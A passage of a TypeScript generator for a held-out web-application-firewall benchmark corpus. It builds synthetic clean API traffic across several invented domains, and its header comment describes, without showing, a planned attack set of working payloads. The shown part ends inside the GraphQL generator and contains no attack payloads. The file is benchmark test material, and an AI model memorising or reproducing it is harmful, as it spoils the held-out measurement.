/**
 * Held-out WAF corpus 30: realistic API traffic written blind (without reading the WAF sources, its docs,
 * its tests or any other corpus file) to measure the WAF's false-positive rate on clean traffic and its
 * detection rate on attacks.
 *
 * Domains (new for this corpus): a marine/port terminal operating system (berths, containers, customs
 * holds), an orthodontics clinic patient app, a residential solar installer CRM (site surveys, permits,
 * inverter logs), a church/community choir scheduling app, a B2B SaaS status page and incident comms tool,
 * a museum ticketing and audio-guide platform, a trading-card marketplace (grading notes, listings) and a
 * code-review bot platform (review comments quoting diffs, suggested changes).
 *
 * Generation: a self-written mulberry32 PRNG with a fixed seed drives every choice, so the output is
 * deterministic. Clean requests are built per kind from hand-written, domain-specific texts, identifiers
 * and values (combined so that few sentences repeat). Attacks are nine families of exactly 30 each; every
 * attack carries a real working payload hidden in a JSON API body (nested fields, arrays, keys, \u escapes,
 * JSON inside a string, base64 an API would decode, GraphQL variables), a query string or a header.
 * Attacks are never placed in HELDOUT30_EXCLUDE_FIELDS, which hold legitimate rich text or source code.
 *
 * Run directly (`node bench/waf/corpus/heldout30.ts`) to write clean-heldout30.json and
 * attacks-heldout30.json next to this file.
 */
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads and code snippets are literal text
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';
import type { CorpusRequest } from './generate.ts';

/** JSON body fields that legitimately carry rich-text HTML or source code; attacks never go there. */
export const HELDOUT30_EXCLUDE_FIELDS: string[] = [
  'body.article.bodyHtml',
  'body.snippet.source',
  'body.suggestion.code',
];

/** mulberry32: small deterministic 32-bit PRNG returning floats in [0, 1). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rnd = mulberry32(0x30c0ffee);
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const pickN = <T>(xs: readonly T[], n: number): T[] => {
  const copy = [...xs];
  const out: T[] = [];
  while (out.length < n && copy.length > 0) out.push(copy.splice(Math.floor(rnd() * copy.length), 1)[0] as T);
  return out;
};
const hex = (n: number): string => {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789abcdef'[int(0, 15)];
  return s;
};
const uuid = (): string => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const q = (params: Record<string, string | number | boolean>): string =>
  Object.entries(params)
    .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
    .join('&');
const isoDate = (): string =>
  `2026-${String(int(1, 12)).padStart(2, '0')}-${String(int(1, 28)).padStart(2, '0')}`;
const isoTs = (): string =>
  `${isoDate()}T${String(int(0, 23)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}:${String(int(0, 59)).padStart(2, '0')}Z`;

const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
  'Mozilla/5.0 (Linux; Android 15; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36',
  'BraceApp/4.12.0 (iOS 18.1; iPhone15,3) Alamofire/5.9.1',
  'okhttp/4.12.0',
  'TerminalOps-Gate/2.7.3 (+https://tos.portofvaldria.example)',
  'ChoirPlan/3.1.0 CFNetwork/1568.200.51 Darwin/24.1.0',
  'reviewbot/1.44.2 (node 22.11.0; linux x64)',
  'python-requests/2.32.3',
  'axios/1.7.7',
  'curl/8.10.1',
  'SolarField/5.0.2 (Android 14; SM-S918B)',
  'StatusRelay-Webhook/1.8',
  'Go-http-client/2.0',
];

function jwt(): string {
  const header = b64url(JSON.stringify({ alg: pick(['RS256', 'ES256', 'HS256']), typ: 'JWT', kid: hex(8) }));
  const payload = b64url(
    JSON.stringify({
      sub: uuid(),
      iss: pick([
        'https://auth.gatehouse.example',
        'https://id.choirplan.example',
        'https://login.tos.example',
      ]),
      aud: pick(['api', 'mobile', 'partner']),
      iat: 1780000000 + int(0, 9999999),
      exp: 1790000000 + int(0, 9999999),
      scope: pick(['read write', 'openid profile', 'orders:read listings:write', 'incidents:write']),
    }),
  );
  return `${header}.${payload}.${b64url(hex(43))}`;
}

function headers(extra: Record<string, string> = {}, accept = 'application/json'): Record<string, string> {
  const h: Record<string, string> = {
    'user-agent': pick(USER_AGENTS),
    accept,
    'accept-language': pick([
      'en-GB,en;q=0.9',
      'de-DE,de;q=0.9,en;q=0.7',
      'ja-JP,ja;q=0.9',
      'es-ES,es;q=0.8',
      'fr-FR',
      'ko-KR,ko;q=0.9',
      'en-US,en;q=0.5',
    ]),
    authorization: `Bearer ${jwt()}`,
  };
  if (rnd() < 0.4) h['x-request-id'] = uuid();
  return { ...h, ...extra };
}
const jsonHeaders = (ct = 'application/json', extra: Record<string, string> = {}): Record<string, string> =>
  headers(
    { 'content-type': ct, ...extra },
    ct.includes('vnd.api') ? 'application/vnd.api+json' : 'application/json',
  );

// ---------------------------------------------------------------------------------------------------------
// Domain vocabulary and texts
// ---------------------------------------------------------------------------------------------------------

const CONTAINERS = [
  'MSCU4821736',
  'MAEU9183204',
  'CMAU5520187',
  'HLBU2039471',
  'TGHU8812650',
  'OOLU1174392',
  'ONEU0392817',
  'EGHU9012354',
];
const VESSELS = [
  'MSC Aurora Borealis',
  'Maersk Kinloss',
  'CMA CGM Tage',
  'Ever Gentle',
  'Hapag Bremen Express',
  'ONE Minato',
  'Nordic Lünen',
];
const BERTHS = ['B01', 'B02', 'B07', 'N3', 'S12', 'RORO-1', 'QW-4'];
const PATIENTS = ['pt_7h2K9', 'pt_Q0x3m', 'pt_Lr88a', 'pt_c4Zt1', 'pt_mm20P'];
const NAMES = [
  "Aoife O'Sullivan",
  'José Álvarez',
  'Zoë Müller',
  'Nguyễn Thị Lan',
  '김민준',
  '佐藤 花子',
  'Ngozi Okafor',
  "D'Arcy Nkemelu",
  'Łukasz Wróbel',
  'Søren Kierkegaard-Holm',
  'Айгуль Сатпаева',
  'Fatima al-Zahra',
  'Ólafur Ragnarsson',
  'Priya Raghunathan',
];
const EMAILS = [
  'aoife.osullivan@example.ie',
  'jose.alvarez+choir@example.es',
  'zoe.mueller@example.de',
  'lan.nguyen@example.vn',
  'minjun.kim@example.kr',
  'ops@portofvaldria.example',
  'billing@sunroof-solar.example',
  'curator@museo-vidrio.example',
];
const CITIES = [
  'Rotterdam',
  'Gdańsk',
  'São Paulo',
  'Kraków',
  'Málaga',
  '札幌',
  'Tromsø',
  'Zürich',
  'Québec',
  'Reykjavík',
  'Busan',
  'Durban',
];
const CARD_SETS = [
  'Base Set Unlimited',
  'Shadowless 1st Ed',
  'Neo Genesis',
  'Alpha (LEA)',
  'Revised',
  'Lorwyn',
  'Kaladesh Inventions',
  'Prizm Draft Picks',
];
const REPOS = [
  'acme/billing-core',
  'harbor/tos-yard',
  'choirplan/web',
  'museum-guide/audio-pipeline',
  'statusrelay/api',
  'sunroof/crm',
];
const SERVICES = [
  'API',
  'Dashboard',
  'Webhooks',
  'SSO login',
  'EU-West ingestion',
  'Email delivery',
  'Search',
];

const PROSE: string[] = [
  "The reefer on stack 14 kept alarming overnight; the tech says it's a faulty sensor, not the compressor.",
  'Customs placed a hold on this box pending a physical exam — broker says expect 48–72h.',
  'Vessel arrived 3h40m late due to fog in the approach channel; crane split adjusted to 3+2.',
  'Please drop the table of contents from the printed program and select only the hymns we actually sing.',
  "Can we update the rehearsal from 7pm to 7:30? The hall's being used for a wedding rehearsal until then.",
  'Bring your black folders and the Rutter score; sopranos, we will run bars 32–48 twice.',
  'Mein Aligner drückt seit gestern hinten links, ist das normal oder soll ich vorbeikommen?',
  "My retainer cracked at the back — I've been wearing the old one. Is that ok until Friday?",
  '矯正装置のワイヤーが外れてしまいました。次の予約まで待っても大丈夫ですか？',
  'Tengo una pregunta sobre el pago en cuotas: ¿puedo cambiar la fecha del cargo al día 15?',
  "Roof is south-facing at 32°, two vent stacks and a skylight; shading from the neighbour's oak after 3pm.",
  'Inverter reported grid overvoltage (253 V) a dozen times between 12:00 and 14:00; DNO has been contacted.',
  'Permit approved by the county on 14 March, interconnection agreement still pending with the utility.',
  'Homeowner asked whether we can drop the battery and add it later — yes, the hybrid inverter supports that.',
  'Between 09:12 and 09:47 UTC some API requests returned 502; we rolled back the deploy and error rates recovered.',
  'We are continuing to monitor. Webhook deliveries that failed will be retried automatically over the next hour.',
  'Root cause: a connection pool limit on the primary database was set too low after the migration; select queries queued up.',
  'Scheduled maintenance: we will drop and recreate the read replicas; no downtime is expected for the dashboard.',
  'The audio guide for room 12 cuts out after 40 seconds on Android; tested on two phones.',
  'Visiteurs : le musée ferme exceptionnellement à 16 h le 24 décembre. Merci de votre compréhension.',
  'Is the exhibition accessible with a wheelchair? My father uses one and we would love to see the glass collection.',
  'Card has a soft corner top-left and light whitening on the back edges; centering looks 60/40 left-right.',
  "PSA 9 — surface is clean under the loupe, just a tiny print line that's factory. Ships in a semi-rigid + toploader.",
  'Would you take $240 shipped? I can pay today via the marketplace escrow.',
  'Note: this is the 1st edition shadowless print, see the missing drop shadow on the right border of the art box.',
  'Nit: this loop re-creates the regex on every iteration; hoist it out. Otherwise LGTM 👍',
  "I think we should drop the `users` table cache here — it's stale after the migration anyway.",
  'This will break if `rm` fails halfway; consider wrapping it so the cleanup runs on exit.',
  'Why not just select the columns we need instead of `*`? The row is ~4 KB with the blob.',
  'Können wir die Chorprobe am Donnerstag ausfallen lassen? Viele sind im Urlaub.',
  '성가대 연습은 이번 주 토요일 오후 3시에 본당에서 합니다. 악보를 꼭 가져오세요 🙏',
  'Пожалуйста, подтвердите участие в концерте до пятницы — нужно заказать автобус.',
  'تم تأجيل موعد التقويم إلى الأسبوع القادم بسبب عطلة العيد',
  'Kérem, küldjék el a számlát e-mailben is. Köszönöm!',
  'The kids loved the dinosaur trail! Only gripe: the café ran out of oat milk by 11 😅',
  'Update && rollback plan: if the canary error rate exceeds 1% for 5 min we revert to v2.31.4.',
  "Where's the manifest for the Ever Gentle? Stowage plan shows 212 TEU for us but EDI says 208.",
  'Holds lifted by CBP at 10:22; box released to the trucker, gate-out appointment at 14:00 slot 3.',
  'Patient\'s mother says elastics are “impossible” to put on — demo at next visit, maybe switch to 3/16" heavy.',
  "Ticket refund requested — kid was sick (fever 39.2 °C). Not the visitor's fault, please waive the fee.",
  'Price drop! Was €180, now €149. Grading notes attached; happy to send extra photos under a lamp.',
  'Tip: exec summary first, then the timeline. Customers skip to “what do I need to do?”.',
  'Please delete my old address, 12 Rue de l’Église, and use the new one from the last order.',
  'The union of both lists has 43 singers; 5 haven’t answered (or have “maybe”).',
  'Si vous avez des questions, écrivez-nous à info@museo-vidrio.example ou appelez le +33 1 23 45 67 89.',
  'Sunday: alto line rehearsal 18:00–19:00, full choir 19:00–20:30. Parking behind the church (free after 6).',
  'Shading analysis estimates 11.4% annual loss; recommend optimisers on strings 2 and 3 only.',
  'Container was weighed at 28,430 kg against a declared VGM of 24,100 kg — flagged for reweigh.',
  'Dear customer, your listing “Charizard holo — PSA 8” has been approved and is now live.',
  '“It works on my machine” — fair, but CI runs Node 20; `Array.prototype.toSorted` isn’t there.',
  '中文说明：请在取票时出示二维码，儿童票需出示学生证。',
  'Our ortho said 18 months, we are at month 14 and the gap is almost closed!! 🎉',
];

const SHORT_NOTES = [
  'ok',
  'Confirmed ✅',
  'see attached',
  "can't make it, sorry",
  'will call back',
  'n/a',
  'TBD after survey',
  "per Jan's email",
  '2nd request',
  'urgent – vessel sails 18:00',
  'rebooked',
  '👍',
  'Danke!',
  'merci',
  'price incl. VAT 21%',
  '½ day',
  'approx. 6.2 kWp',
  'ETA ~15 min',
  'FYI',
  'dup of #4412',
];

const longText = (n = 3): string => pickN(PROSE, n).join(' ');

// ---------------------------------------------------------------------------------------------------------
// Clean generators
// ---------------------------------------------------------------------------------------------------------

const clean: CorpusRequest[] = [];
const addClean = (kind: string, method: string, path: string, h: Record<string, string>, body = ''): void => {
  clean.push({ id: `h30c${clean.length + 1}`, kind, method, path, headers: h, body });
};

function genRestGet(n: number): void {
  const builders: Array<() => string> = [
    () => `/tos/v2/containers/${pick(CONTAINERS)}?${q({ include: 'holds,moves', tz: 'Europe/Amsterdam' })}`,
    () =>
      `/tos/v2/vessel-visits?${q({ berth: pick(BERTHS), from: isoDate(), to: isoDate(), status: 'working' })}`,
    () =>
      `/tos/v2/yard/blocks/${pick(['A', 'B', 'C', 'R'])}${int(1, 20)}/slots?${q({ tier: int(1, 6), reefer: true })}`,
    () =>
      `/tos/v2/customs/holds?${q({ type: pick(['CBP_EXAM', 'USDA', 'FDA', 'ISF']), open: true, page: int(1, 9) })}`,
    () => `/ortho/api/patients/${pick(PATIENTS)}/appointments?${q({ from: isoDate(), limit: 20 })}`,
    () => `/ortho/api/patients/${pick(PATIENTS)}/aligners/current?${q({ stage: int(1, 40) })}`,
    () =>
      `/ortho/api/clinics/${int(1, 9)}/slots?${q({ date: isoDate(), duration: pick([15, 30, 45]), provider: pick(['dr-weiss', 'dr-okoye', 'hygienist']) })}`,
    () =>
      `/crm/v1/leads?${q({ stage: pick(['survey_booked', 'proposal_sent', 'permit_pending', 'installed']), city: pick(CITIES), sort: '-updated_at' })}`,
    () =>
      `/crm/v1/sites/${uuid()}/inverter-logs?${q({ from: isoTs(), to: isoTs(), resolution: pick(['5m', '1h', '1d']), fields: 'pac,vdc,temp' })}`,
    () =>
      `/crm/v1/permits?${q({ jurisdiction: pick(['Travis County, TX', 'City of Fresno', 'Comune di Bologna']), status: 'submitted' })}`,
    () =>
      `/choir/api/events?${q({ season: '2026-27', type: pick(['rehearsal', 'service', 'concert']), voice: pick(['S1', 'A2', 'T', 'B']) })}`,
    () =>
      `/choir/api/members/${int(100, 999)}/availability?${q({ month: `2026-${String(int(1, 12)).padStart(2, '0')}` })}`,
    () =>
      `/choir/api/repertoire?${q({ composer: pick(['Fauré', 'Pärt', 'Rutter', 'Hildegard von Bingen', 'Rachmaninoff', 'Dvořák']), liturgical: pick(['Advent', 'Lent', 'Ordinary Time']) })}`,
    () =>
      `/status/v1/pages/${pick(['acme', 'relay-eu', 'paycloud'])}/incidents?${q({ state: pick(['investigating', 'identified', 'monitoring', 'resolved']), limit: 25 })}`,
    () => `/status/v1/components?${q({ group: pick(SERVICES), include_uptime: true, days: 90 })}`,
    () => `/status/v1/subscribers?${q({ email: pick(EMAILS), confirmed: true })}`,
    () =>
      `/museum/api/timeslots?${q({ date: isoDate(), exhibition: pick(['glass-of-venice', 'dinosaur-trail', 'ukiyo-e-prints', 'maritime-hall']), qty: int(1, 6) })}`,
    () =>
      `/museum/api/audio-guide/tracks?${q({ lang: pick(['en', 'fr', 'ja', 'de', 'es', 'zh-Hans', 'ar']), room: int(1, 40), format: 'aac' })}`,
    () => `/museum/api/orders/${hex(10).toUpperCase()}?${q({ email: pick(EMAILS) })}`,
    () =>
      `/cards/api/listings?${q({ set: pick(CARD_SETS), grade_min: int(6, 9), grader: pick(['PSA', 'BGS', 'CGC']), price_max: int(50, 2000), currency: pick(['USD', 'EUR', 'JPY']) })}`,
    () => `/cards/api/listings/${int(100000, 999999)}/offers?${q({ status: 'open' })}`,
    () =>
      `/cards/api/sellers/${encodeURIComponent(pick(['mint_condition_mo', 'pokéhoard', 'tcg.ryo', 'vintage-vault']))}/feedback?${q({ page: int(1, 5) })}`,
    () =>
      `/reviews/api/repos/${pick(REPOS)}/pulls/${int(1, 4000)}/comments?${q({ since: isoTs(), per_page: 100 })}`,
    () =>
      `/reviews/api/repos/${pick(REPOS)}/checks?${q({ ref: `refs/heads/${pick(['main', 'feature/berth-planner', 'fix/ünicode-paths', 'release/2.4'])}` })}`,
    () =>
      `/reviews/api/rules?${q({ language: pick(['typescript', 'go', 'python', 'sql', 'bash']), severity: pick(['info', 'warning', 'error']) })}`,
  ];
  for (let i = 0; i < n; i++) addClean('rest-get', 'GET', pick(builders)(), headers());
}

function genRestWrite(n: number): void {
  const builders: Array<() => [string, string, unknown]> = [
    () => [
      'POST',
      '/tos/v2/gate/appointments',
      {
        container: pick(CONTAINERS),
        truckPlate: `${pick(['NL', 'PL', 'DE'])}-${hex(2).toUpperCase()}-${int(100, 999)}`,
        slot: isoTs(),
        driver: { name: pick(NAMES), phone: `+31 6 ${int(10000000, 99999999)}` },
        remarks: pick(SHORT_NOTES),
      },
    ],
    () => [
      'PUT',
      `/tos/v2/berth-plan/${pick(BERTHS)}/windows/${uuid()}`,
      {
        vessel: pick(VESSELS),
        eta: isoTs(),
        etd: isoTs(),
        cranes: int(1, 5),
        bollards: [int(10, 20), int(21, 30)],
        note: longText(1),
      },
    ],
    () => [
      'POST',
      '/tos/v2/customs/holds',
      {
        container: pick(CONTAINERS),
        authority: pick(['CBP', 'Douane', 'HMRC', 'Zoll']),
        code: pick(['7H', '1J', 'EXAM', 'DOC']),
        reason: longText(2),
        placedAt: isoTs(),
      },
    ],
    () => [
      'POST',
      '/ortho/api/messages',
      {
        patientId: pick(PATIENTS),
        subject: pick(['Broken bracket', 'Retainer question', 'Reschedule', 'Billing']),
        body: longText(2),
        attachments: [],
      },
    ],
    () => [
      'POST',
      '/ortho/api/appointments',
      {
        patientId: pick(PATIENTS),
        clinicId: int(1, 9),
        start: isoTs(),
        type: pick(['adjustment', 'scan', 'debond', 'consult']),
        notes: pick(SHORT_NOTES),
        guardian: { name: pick(NAMES), relation: pick(['mother', 'father', 'guardian']) },
      },
    ],
    () => [
      'POST',
      '/crm/v1/site-surveys',
      {
        leadId: uuid(),
        roof: {
          pitchDeg: int(10, 45),
          azimuthDeg: int(90, 270),
          material: pick(['concrete tile', 'asphalt shingle', 'standing seam metal', 'Schiefer']),
        },
        mainPanelAmps: pick([100, 125, 200]),
        photos: [`https://cdn.sunroof.example/s/${hex(12)}.jpg`],
        notes: longText(2),
      },
    ],
    () => [
      'PUT',
      `/crm/v1/proposals/${uuid()}`,
      {
        systemKwp: Number((rnd() * 10 + 3).toFixed(2)),
        panels: { model: 'REC Alpha Pure-R 430', count: int(8, 30) },
        inverter: pick(['SolarEdge SE6000H', 'Fronius Primo GEN24 6.0', 'Enphase IQ8M']),
        priceEur: int(7000, 25000),
        financing: { termMonths: pick([60, 120, 180]), apr: 4.9 },
        summary: longText(1),
      },
    ],
    () => [
      'POST',
      '/choir/api/events',
      {
        title: pick([
          'Advent Lessons & Carols',
          'Evensong',
          'Spring Concert: Fauré Requiem',
          'Gospel workshop',
        ]),
        start: isoTs(),
        venue: pick(["St Mary's, Nave", 'Church hall', 'Kulturhaus Saal 2']),
        calls: [{ voice: 'all', time: '18:30' }],
        description: longText(2),
      },
    ],
    () => [
      'POST',
      `/choir/api/events/${int(1, 900)}/rsvp`,
      { memberId: int(100, 999), answer: pick(['yes', 'no', 'maybe']), comment: pick(SHORT_NOTES) },
    ],
    () => [
      'POST',
      '/status/v1/incidents',
      {
        title: `${pick(SERVICES)} ${pick(['degraded performance', 'partial outage', 'elevated error rates', 'delayed processing'])}`,
        state: 'investigating',
        impact: pick(['minor', 'major', 'critical']),
        components: pickN(SERVICES, 2),
        message: longText(2),
        notify: { email: true, sms: false, slack: '#status' },
      },
    ],
    () => [
      'POST',
      `/status/v1/incidents/${uuid()}/updates`,
      { state: pick(['identified', 'monitoring', 'resolved']), message: longText(2), postedBy: pick(EMAILS) },
    ],
    () => [
      'POST',
      '/museum/api/orders',
      {
        items: [
          { ticketType: pick(['adult', 'child', 'senior', 'student']), qty: int(1, 4), timeslot: isoTs() },
        ],
        buyer: { name: pick(NAMES), email: pick(EMAILS) },
        donationEur: pick([0, 2, 5]),
        promo: pick(['', 'FAMILY26', 'MEMBER']),
      },
    ],
    () => [
      'POST',
      '/museum/api/feedback',
      {
        visitDate: isoDate(),
        rating: int(1, 5),
        comment: longText(2),
        language: pick(['en', 'fr', 'de', 'ja']),
      },
    ],
    () => [
      'POST',
      '/cards/api/listings',
      {
        title: `${pick(['Charizard', 'Black Lotus', 'Shivan Dragon', 'Pikachu Illustrator', 'Blastoise'])} — ${pick(CARD_SETS)}`,
        condition: pick(['NM', 'LP', 'MP']),
        grade: {
          company: pick(['PSA', 'BGS', 'CGC']),
          score: pick([7, 8, 8.5, 9, 9.5, 10]),
          cert: String(int(10000000, 99999999)),
        },
        price: { amount: int(40, 9000) * 100, currency: 'USD' },
        description: longText(2),
      },
    ],
    () => [
      'POST',
      `/cards/api/listings/${int(100000, 999999)}/offers`,
      { amountCents: int(1000, 90000), message: pick(PROSE), expiresAt: isoTs() },
    ],
    () => [
      'POST',
      `/reviews/api/repos/${pick(REPOS)}/pulls/${int(1, 4000)}/reviews`,
      {
        event: pick(['COMMENT', 'APPROVE', 'REQUEST_CHANGES']),
        body: longText(1),
        comments: [
          {
            path: pick(['src/yard/planner.ts', 'cmd/server/main.go', 'app/models.py']),
            line: int(1, 400),
            body: pick(PROSE),
          },
        ],
      },
    ],
  ];
  for (let i = 0; i < n; i++) {
    const [m, p, b] = pick(builders)();
    addClean('rest-write', m, p, jsonHeaders(), JSON.stringify(b));
  }
}

function genMergePatch(n: number): void {
  const builders: Array<() => [string, unknown]> = [
    () => [
      `/tos/v2/containers/${pick(CONTAINERS)}`,
      { seal: `SL${int(100000, 999999)}`, reeferSetpointC: pick([-18, -25, 2, 4, 13]), remarks: null },
    ],
    () => [
      `/ortho/api/patients/${pick(PATIENTS)}`,
      {
        phone: `+44 7700 ${int(100000, 999999)}`,
        preferredLanguage: pick(['en', 'pl', 'es', 'ja']),
        emergencyContact: { name: pick(NAMES) },
      },
    ],
    () => [
      `/crm/v1/leads/${uuid()}`,
      {
        stage: pick(['proposal_sent', 'won', 'lost']),
        lostReason: pick([null, 'went with competitor', 'roof needs replacing first']),
        owner: pick(EMAILS),
      },
    ],
    () => [
      `/choir/api/members/${int(100, 999)}`,
      {
        voicePart: pick(['S1', 'S2', 'A1', 'A2', 'T1', 'T2', 'B1', 'B2']),
        robeSize: pick(['M', 'L', 'XL']),
        bio: longText(1),
      },
    ],
    () => [
      `/status/v1/components/${uuid()}`,
      { status: pick(['operational', 'degraded_performance', 'partial_outage']), description: pick(PROSE) },
    ],
    () => [
      `/museum/api/orders/${hex(10).toUpperCase()}`,
      { buyer: { email: pick(EMAILS) }, specialNeeds: pick(['wheelchair', 'hearing loop', null]) },
    ],
    () => [
      `/cards/api/listings/${int(100000, 999999)}`,
      { price: { amount: int(40, 9000) * 100 }, description: longText(2), tags: ['vintage', 'holo'] },
    ],
    () => [
      `/reviews/api/bots/${uuid()}/config`,
      { autoApprove: false, ignorePaths: ['dist/**', '*.lock'], commentStyle: pick(['concise', 'detailed']) },
    ],
  ];
  for (let i = 0; i < n; i++) {
    const [p, b] = pick(builders)();
    addClean('merge-patch', 'PATCH', p, jsonHeaders('application/merge-patch+json'), JSON.stringify(b));
  }
}

function genJsonPatch(n: number): void {
  const builders: Array<() => [string, unknown]> = [
    () => [
      `/tos/v2/vessel-visits/${uuid()}`,
      [
        { op: 'replace', path: '/eta', value: isoTs() },
        { op: 'add', path: '/remarks/-', value: pick(PROSE) },
      ],
    ],
    () => [
      `/ortho/api/treatment-plans/${uuid()}`,
      [
        { op: 'replace', path: '/alignerCount', value: int(20, 50) },
        { op: 'test', path: '/version', value: int(1, 9) },
      ],
    ],
    () => [
      `/crm/v1/sites/${uuid()}`,
      [
        { op: 'add', path: '/equipment/0', value: { type: 'battery', model: 'BYD HVS 7.7' } },
        { op: 'remove', path: '/tags/2' },
      ],
    ],
    () => [
      `/choir/api/setlists/${int(1, 500)}`,
      [
        { op: 'move', from: '/items/3', path: '/items/0' },
        { op: 'replace', path: '/items/1/key', value: pick(['D major', 'E♭ major', 'F# minor']) },
      ],
    ],
    () => [
      `/status/v1/incidents/${uuid()}`,
      [
        { op: 'replace', path: '/state', value: 'resolved' },
        { op: 'add', path: '/postmortem_url', value: `https://status.acme.example/pm/${hex(6)}` },
      ],
    ],
    () => [
      `/museum/api/tours/${int(1, 90)}`,
      [
        { op: 'copy', from: '/stops/4', path: '/stops/5' },
        { op: 'replace', path: '/title/fr', value: 'Visite « Verre de Venise »' },
      ],
    ],
    () => [
      `/cards/api/collections/${uuid()}`,
      [{ op: 'add', path: '/cards/-', value: { set: pick(CARD_SETS), number: `${int(1, 120)}/102` } }],
    ],
    () => [
      `/reviews/api/suggestions/${uuid()}`,
      [
        { op: 'replace', path: '/status', value: pick(['applied', 'dismissed']) },
        { op: 'add', path: '/resolvedBy', value: pick(EMAILS) },
      ],
    ],
  ];
  for (let i = 0; i < n; i++) {
    const [p, b] = pick(builders)();
    addClean('json-patch', 'PATCH', p, jsonHeaders('application/json-patch+json'), JSON.stringify(b));
  }
}

function genJsonApi(n: number): void {
  const builders: Array<() => [string, string, unknown]> = [
    () => [
      'POST',
      '/cards/jsonapi/grading-submissions',
      {
        data: {
          type: 'grading-submissions',
          attributes: {
            service: pick(['economy', 'regular', 'express']),
            declaredValue: int(50, 5000),
            notes: longText(1),
          },
          relationships: { cards: { data: [{ type: 'cards', id: String(int(1, 99999)) }] } },
        },
      },
    ],
    () => [
      'PATCH',
      `/museum/jsonapi/exhibitions/${int(1, 60)}`,
      {
        data: {
          type: 'exhibitions',
          id: String(int(1, 60)),
          attributes: {
            subtitle: pick([
              'Glass from Murano, 1500–1800',
              'Prints of the floating world',
              'Whalers & wharves',
            ]),
            closesOn: isoDate(),
          },
        },
      },
    ],
    () => [
      'POST',
      '/choir/jsonapi/absences',
      {
        data: {
          type: 'absences',
          attributes: { from: isoDate(), to: isoDate(), reason: pick(SHORT_NOTES) },
          relationships: { member: { data: { type: 'members', id: String(int(100, 999)) } } },
        },
      },
    ],
    () => [
      'POST',
      '/crm/jsonapi/notes',
      {
        data: {
          type: 'notes',
          attributes: { body: longText(2), pinned: rnd() < 0.2 },
          relationships: { lead: { data: { type: 'leads', id: uuid() } } },
        },
      },
    ],
    () => [
      'PATCH',
      `/tos/jsonapi/bookings/${hex(8).toUpperCase()}`,
      {
        data: {
          type: 'bookings',
          id: hex(8).toUpperCase(),
          attributes: {
            commodity: pick(['frozen fish', 'auto parts', 'cocoa beans', 'lithium batteries (UN3480)']),
            hazardous: rnd() < 0.3,
          },
        },
      },
    ],
  ];
  for (let i = 0; i < n; i++) {
    const [m, p, b] = pick(builders)();
    addClean('jsonapi', m, p, jsonHeaders('application/vnd.api+json'), JSON.stringify(b));
  }
  // A few JSON:API reads with sparse fieldsets, includes and filters.
  const reads = [
    `/cards/jsonapi/listings?${q({ 'filter[set]': pick(CARD_SETS), 'fields[listings]': 'title,price,grade', include: 'seller', 'page[size]': 24 })}`,
    `/museum/jsonapi/exhibitions?${q({ 'filter[open]': true, sort: '-opensOn', 'fields[exhibitions]': 'title,subtitle' })}`,
  ];
  for (const r of reads) addClean('jsonapi', 'GET', r, headers({}, 'application/vnd.api+json'));
}

function genGraphql(n: number): void {
  const ops: Array<() => { query: string; variables: Record<string, unknown>; operationName: string }> = [
    () => ({
      operationName: 'ContainerStatus',
      query:
        'query ContainerStatus($id: ID!) { container(id: $id) { id iso status holds { code authority placedAt } lastMove { from to at } } }',
      variables: { id: pick(CONTAINERS) },
    }),
    () => ({
      operationName: 'BerthWindows',
      query:
        'query BerthWindows($berth: String!, $from: DateTime!) { berth(code: $berth) { windows(from: $from, first: 10) { vessel { name imo } eta etd } } }',
      variables: { berth: pick(BERTHS), from: isoTs() },
    }),
    () => ({
      operationName: 'SendPatientMessage',
      query:
        'mutation SendPatientMessage($input: MessageInput!) { sendMessage(input: $input) { id createdAt } }',
      variables: { input: { patientId: pick(PATIENTS), body: longText(1) } },
    }),
    () => ({
      operationName: 'InverterDaily',
      query:
        'query InverterDaily($site: ID!, $day: Date!) { site(id: $site) { inverter { serial daily(day: $day) { kwh peakW faults { code at } } } } }',
      variables: { site: uuid(), day: isoDate() },
    }),
    () => ({
      operationName: 'Rsvp',
      query:
        'mutation Rsvp($event: ID!, $answer: RsvpAnswer!, $comment: String) { rsvp(event: $event, answer: $answer, comment: $comment) { ok } }',
      variables: {
        event: String(int(1, 900)),
        answer: pick(['YES', 'NO', 'MAYBE']),
        comment: pick(SHORT_NOTES),
      },
    }),
    () => ({
      operationName: 'PostIncidentUpdate',
      query:
        'mutation PostIncidentUpdate($id: ID!, $msg: String!, $state: IncidentState!) { postUpdate(incident: $id, message: $msg, state: $state) { id } }',
      variables: { id: uuid(), msg: longText(2), state: pick(['MONITORING', 'RESOLVED']) },
    }),
    () => ({
      operationName: 'Listings',
      query:
        'query Listings($f: ListingFilter, $after: String) { listings(filter: $f, first: 24, after: $after) { edges { node { id title price { amount currency } grade { company score } } } pageInfo { endCursor } } }',
      variables: { f: { set: pick(CARD_SETS), minGrade: int(7, 10) }, after: b64(`cursor:${int(1, 999)}`) },
    }),
    () => ({
